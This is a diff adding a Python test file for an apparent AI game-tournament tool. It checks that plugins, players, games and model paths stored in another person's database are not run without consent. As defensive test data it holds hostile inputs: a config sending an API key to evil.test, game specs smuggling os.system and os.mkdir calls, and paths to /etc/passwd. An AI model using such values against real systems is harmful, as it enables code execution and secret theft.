@@ -1,0 +1,321 @@
+"""A database is data: nothing that it names is run, loaded or asked unless the user said so, once"""
+
+from __future__ import annotations
+
+import logging
+import os
+import shutil
+import sqlite3
+from collections.abc import Iterator
+from pathlib import Path
+
+import msgspec
+import pytest
+
+from arena.cli import main
+from games import InputError, plugins
+from league.config import TournamentConfig
+from league.names import resolve
+from league.store import Store
+from league.tournament import run_tournament
+from league.trust import Gate, of_game, of_model, of_player, readable
+from league.trust.memory import FILE, state_dir
+
+METHOD = """
+from pathlib import Path
+from games import plugins
+from league.ratings import Ledger
+from beside import touch
+
+touch(Path(__file__).parent)
+
+@plugins.register("arena.ratings", "mine")
+def mine(games, config, players):
+    return Ledger(games, config.model_copy(update={"method": "trueskill"}), players)
+"""
+BESIDE = """
+def touch(folder):
+    (folder / "ran").write_text("yes")
+"""
+FILE_TEXT = """
+name = "cup"
+db = "sqlite:///cup.db"
+games = ["openspiel/kuhn_poker"]
+plugins = ["mine.py"]
+[ratings]
+method = "mine"
+[[players]]
+name = "one"
+player = "random"
+[[players]]
+name = "two"
+player = "random"
+"""
+
+
+@pytest.fixture(autouse=True)
+def _somebody_new(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
+    """A user who has allowed nothing yet, in a folder of his own."""
+    monkeypatch.setenv("ARENA_STATE", str(tmp_path / "state"))
+    (tmp_path / "here").mkdir()
+    monkeypatch.chdir(tmp_path / "here")
+    yield
+    for handler in list(logging.getLogger().handlers):
+        handler.flush()
+
+
+def forget(monkeypatch: pytest.MonkeyPatch) -> None:
+    """As in a process that has loaded no plugin."""
+    monkeypatch.setattr(plugins, "_registered", {})
+    monkeypatch.setattr(plugins, "_loaded_files", {})
+    from games import neighbours
+
+    monkeypatch.setattr(neighbours, "_packages", {})
+
+
+@pytest.fixture
+def played(monkeypatch: pytest.MonkeyPatch) -> Path:
+    """A run that this user started from a file of his own, whose standings are not cached."""
+    Path("mine.py").write_text(METHOD)
+    Path("beside.py").write_text(BESIDE)
+    Path("t.toml").write_text(FILE_TEXT)
+    assert main(["tournament", "t.toml", "--board", "off"]) == 0
+    with sqlite3.connect("cup.db") as connection:
+        connection.execute("DELETE FROM standings_cache")
+    connection.close()
+    forget(monkeypatch)
+    Path("ran").unlink()
+    return Path("cup.db").resolve()
+
+
+def test_ones_own_run_finds_its_plugin_again(played: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    os.chdir("/")
+    for verb in (["board"], ["rebuild"], ["verify"]):
+        assert main([*verb, "--db", str(played)]) == 0, capsys.readouterr().err
+    assert (played.parent / "ran").exists()
+
+
+@pytest.mark.parametrize("verb", [["board"], ["rebuild"], ["verify"], ["watch"]])
+def test_code_of_a_database_from_elsewhere_is_named_and_not_run(
+    played: Path, verb: list[str], capsys: pytest.CaptureFixture[str]
+) -> None:
+    shutil.rmtree(state_dir())
+    assert main([*verb, "--db", str(played)]) == 2
+    told = capsys.readouterr().err.splitlines()[-1]
+    code = played.parent / "mine.py"
+    assert f"its plugin file {code} is code that you have not run for this database" in told
+    assert f"look at it, then add --plugin {code}, or type --trust-db" in told
+    assert not (played.parent / "ran").exists()
+
+
+def test_a_plugin_is_asked_for_again_once_it_or_its_neighbour_changed(
+    played: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    for name in ("mine.py", "beside.py"):
+        text = Path(name).read_text()
+        Path(name).write_text(text + "# changed\n")
+        assert main(["board", "--db", str(played)]) == 2
+        assert "mine.py has changed since you ran it for this database" in capsys.readouterr().err
+        assert not Path("ran").exists()
+        Path(name).write_text(text)
+    assert main(["board", "--db", str(played)]) == 0
+
+
+@pytest.mark.parametrize("how", [["--trust-db"], ["--plugin", "mine.py"]])
+def test_he_is_asked_once(
+    played: Path, how: list[str], capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    shutil.rmtree(state_dir())
+    assert main(["board", "--db", str(played), *how]) == 0
+    forget(monkeypatch)
+    assert main(["board", "--db", str(played)]) == 0, capsys.readouterr().err
+
+
+def test_what_is_trusted_is_listed(played: Path, caplog: pytest.LogCaptureFixture) -> None:
+    shutil.rmtree(state_dir())
+    assert main(["board", "--db", str(played), "--trust-db"]) == 0
+    assert f"runs the code in {played.parent / 'mine.py'}" in caplog.text
+
+
+def test_another_database_that_names_the_same_file_is_not_trusted(played: Path) -> None:
+    with sqlite3.connect(played) as connection:
+        connection.execute("UPDATE meta SET value = 'another' WHERE key = 'id'")
+    connection.close()
+    assert main(["board", "--db", str(played)]) == 2
+    assert not Path("ran").exists()
+
+
+def seated(db: Path, player: str, **config: object) -> Path:
+    """Somebody else's database in which `champ` is a player."""
+    with Store.open(str(db)) as store:
+        store.start_run("theirs", {"name": "theirs", "players": [{"name": "champ", "player": player}], **config})
+    return db
+
+
+@pytest.mark.parametrize(
+    ("player", "told"),
+    [
+        (
+            "openai(model=m, base_url=http://evil.test/v1, key=VICTIM_SECRET)",
+            "ask the model m at http://evil.test/v1, sending it the key in the environment variable VICTIM_SECRET",
+        ),
+        (
+            "openai(model=gpt)",
+            "https://api.openai.com/v1, sending it the key in the environment variable OPENAI_API_KEY",
+        ),
+        ("openai(model=m, base_url=http://evil.test/v1)", "ask the model m at http://evil.test/v1;"),
+        ("by-role(buyer=random, seller=openai(model=m, base_url=http://evil.test/v1))", "http://evil.test/v1;"),
+        ("llm(model=evil/weights)", "load the model evil/weights from the Hugging Face hub"),
+        ("llm(model=/)", "load the model in the folder /"),
+        ("llm(model=../other)", "load the model ../other from a folder that is not here"),
+    ],
+)
+def test_a_player_of_a_database_is_not_made_unasked(
+    tmp_path: Path, player: str, told: str, capsys: pytest.CaptureFixture[str]
+) -> None:
+    db = seated(tmp_path / "theirs.db", player)
+    for words in (
+        ["play", "openspiel/kuhn_poker", "champ", "random"],
+        ["eval", "champ", "--game", "openspiel/kuhn_poker"],
+        ["eval", "random", "--game", "openspiel/kuhn_poker", "--against", "champ"],
+    ):
+        assert main([*words, "--db", str(db)]) == 2
+        line = capsys.readouterr().err.strip()
+        assert "\n" not in line
+        assert told in line
+        assert line.endswith("if you want that, type --trust-db")
+
+
+def test_a_file_that_names_a_player_of_a_database_is_asked_too(tmp_path: Path) -> None:
+    db = seated(tmp_path / "theirs.db", "openai(model=m, base_url=http://evil.test/v1, key=VICTIM_SECRET)")
+    text = FILE_TEXT.replace("cup.db", str(db)).replace('player = "random"', 'player = "champ"', 1)
+    Path("t.toml").write_text(text.replace('plugins = ["mine.py"]', "").replace('method = "mine"', ""))
+    assert main(["tournament", "t.toml"]) == 2
+    # nor when the run is said to have been started with that name
+    with sqlite3.connect(db) as connection:
+        connection.execute("UPDATE runs SET name = 'cup'")
+        config = msgspec.json.encode(
+            {"named": {"one": "champ"}, "players": [{"name": "one", "player": "llm(model=evil/weights)"}]}
+        ).decode()
+        connection.execute("UPDATE runs SET config = ?", (config,))
+    connection.close()
+    assert main(["tournament", "t.toml"]) == 2
+
+
+def test_harmless_players_need_no_trust(tmp_path: Path) -> None:
+    db = seated(tmp_path / "theirs.db", "by-role(a=mcts(simulations=2), b=llm(model=smollm2-135m), c=llm)")
+    assert resolve("champ", str(db)).id.startswith("by-role(")
+
+
+def test_what_is_allowed_is_allowed_as_it_was_listed(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
+    db = seated(tmp_path / "theirs.db", "openai(model=m, base_url=http://one.test/v1)")
+    resolve("champ", str(db), trust=True)
+    assert "the player 'champ' of sqlite:///" in caplog.text
+    assert "may ask the model m at http://one.test/v1" in caplog.text
+    resolve("champ", str(db))
+    with sqlite3.connect(db) as connection:
+        connection.execute("UPDATE runs SET config = replace(config, 'one.test', 'two.test')")
+    connection.close()
+    with pytest.raises(InputError, match=r"two\.test"):
+        resolve("champ", str(db))
+
+
+def model_in(folder: Path, **adapter: str) -> Path:
+    folder.mkdir(parents=True)
+    (folder / "config.json").write_text("{}")
+    if adapter:
+        (folder / "adapter_config.json").write_text(msgspec.json.encode(adapter).decode())
+    return folder
+
+
+def test_a_model_beside_the_database_is_the_runs_own(tmp_path: Path) -> None:
+    db = tmp_path / "runs" / "x.db"
+    inside = model_in(tmp_path / "runs" / "theirs" / "snapshots" / "theirs@3")
+    assert resolve("champ", str(seated(db, f'llm(model="{inside}")'))).name == "champ"
+
+
+@pytest.mark.parametrize("folder", ["", "/", "..", "runs/theirs/snapshots", "elsewhere"])
+def test_a_model_elsewhere_is_not(tmp_path: Path, folder: str) -> None:
+    model = model_in(tmp_path / "elsewhere" / "model")
+    db = seated(tmp_path / "runs" / "x.db", f'llm(model="{model}")', folder=str(tmp_path / folder) if folder else "")
+    link = tmp_path / "runs" / "theirs" / "link"
+    link.parent.mkdir()
+    link.symlink_to(model)
+    with pytest.raises(InputError, match="load the model in the folder"):
+        resolve("champ", str(db))
+    db.unlink()
+    seated(db, f'llm(model="{link}")')
+    with pytest.raises(InputError, match="load the model in the folder"):
+        resolve("champ", str(db))
+
+
+def test_the_base_of_an_adapter_is_a_model_too(tmp_path: Path) -> None:
+    folder = model_in(tmp_path / "a", base_model_name_or_path="evil/base")
+    assert [t.key for t in of_model(str(folder))] == [f"model {folder}", "model evil/base"]
+
+
+def test_games_that_import_or_read_files_are_asked_for(tmp_path: Path) -> None:
+    assert of_game("openspiel/kuhn_poker(players=3)") == []
+    assert [t.told for t in of_game("pettingzoo/os:system(command=id)")] == [
+        "import the Python module os and make the game pettingzoo/os:system(command=id)"
+    ]
+    assert of_game("openspiel/repeated_game(stage_game=nfg_game(filename=/etc/passwd),num_repetitions=2)")
+    assert of_game("openspiel/colored_trails(boards_file=/etc/passwd)")
+
+
+def test_a_stored_match_makes_no_game_that_imports(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    config = TournamentConfig.model_validate(
+        {
+            "name": "cup",
+            "db": f"sqlite:///{tmp_path}/x.db",
+            "games": ["openspiel/kuhn_poker"],
+            "players": [{"name": "a", "player": "random"}, {"name": "b", "player": "random"}],
+        }
+    )
+    run_tournament(config, board="off")
+    with sqlite3.connect(tmp_path / "x.db") as connection:
+        import zlib
+
+        evil = f"pettingzoo/os:mkdir(path={tmp_path}/hacked)"
+        for match, data in connection.execute('SELECT "match", data FROM episodes').fetchall():
+            changed = zlib.compress(zlib.decompress(data).replace(b"openspiel/kuhn_poker", evil.encode()))
+            connection.execute('UPDATE episodes SET data = ? WHERE "match" = ?', (changed, match))
+        connection.execute("UPDATE runs SET config = replace(config, 'openspiel/kuhn_poker', ?)", (evil,))
+        for table in ("plan", "results"):
+            connection.execute(f"UPDATE {table} SET game = ?", (evil,))
+    connection.close()
+    for verb in (["replay", "0"], ["verify"]):
+        assert main([*verb, "--db", f"{tmp_path}/x.db"]) == 2
+        assert "would import the Python module os" in capsys.readouterr().err
+    with pytest.raises(InputError):
+        run_tournament(config, board="off")  # the file's game is another one
+    assert not (tmp_path / "hacked").exists()
+
+
+def test_the_curves_of_a_training_are_read_below_the_database_only(tmp_path: Path) -> None:
+    with Store.open(f"{tmp_path}/runs/x.db") as store:
+        assert readable(store, {"folder": str(tmp_path / "runs" / "t")})["folder"]
+        assert readable(store, {"folder": "/proc/self"})["folder"] == ""
+        assert readable(store, {"folder": str(tmp_path / "runs")})["folder"] == ""
+        Gate(store).remember(of_player("random"), [tmp_path / "far"])
+        assert readable(store, {"folder": str(tmp_path / "far")})["folder"]
+
+
+def test_a_folder_that_cannot_be_written_costs_a_warning(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
+) -> None:
+    (tmp_path / "file").write_text("")
+    monkeypatch.setenv("ARENA_STATE", str(tmp_path / "file" / "state"))
+    with Store.open(f"{tmp_path}/x.db") as store:
+        Gate(store).remember(of_player("openai(model=m)"))
+    assert "is not remembered: cannot write" in caplog.text
+
+
+def test_a_damaged_memory_allows_nothing_and_hides_nothing(tmp_path: Path) -> None:
+    with Store.open(f"{tmp_path}/x.db") as store:
+        Gate(store).remember(of_player("openai(model=m)"))
+        with (state_dir() / FILE).open("ab") as file:
+            file.write(b'{"store": 1}\n[]\n\xff\n{"sto')
+        Gate(store).allow("it", of_player("openai(model=m)"), {})
+        with pytest.raises(InputError):
+            Gate(store).allow("it", of_player("openai(model=n)"), {})
